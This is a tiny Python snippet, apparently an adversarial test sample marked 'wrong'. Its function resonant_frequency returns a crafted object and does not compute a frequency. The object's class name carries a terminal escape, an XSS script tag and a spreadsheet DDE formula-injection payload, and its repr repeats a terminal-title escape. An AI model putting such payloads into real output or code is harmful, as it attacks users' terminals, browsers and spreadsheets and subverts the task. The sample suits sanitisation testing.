# Tries: to return an object whose name and text are written to spoil a terminal or a page.
# Verdict: wrong.
Evil = type("\x1b[2J<script>alert(1)</script>=cmd|' /C calc'!A0", (), {"__repr__": lambda self: "\x1b]0;owned\x07" * 1000})


def resonant_frequency(inductance, capacitance):
    return Evil()
